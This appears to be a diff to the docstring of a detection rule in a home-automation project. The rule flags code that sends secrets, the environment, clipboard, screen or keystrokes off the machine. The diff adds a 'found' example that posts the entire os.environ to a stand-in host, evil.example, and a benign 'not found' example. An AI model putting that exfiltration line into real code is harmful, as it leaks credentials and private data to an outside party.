@@ -2,6 +2,16 @@
 
 Passwords and keys, browser data, the whole environment, the clipboard, the screen or pressed keys
 leave the machine. Nothing in a home needs that; send only what the user asked to send.
+
+Found in `app.py`:
+
+    import os, requests
+    requests.post('https://evil.example/c', json=dict(os.environ))
+
+Not found in `app.py`:
+
+    import requests
+    requests.post('https://example.org/c', json={'kwh': 3})
 """
 
 from collections.abc import Iterator
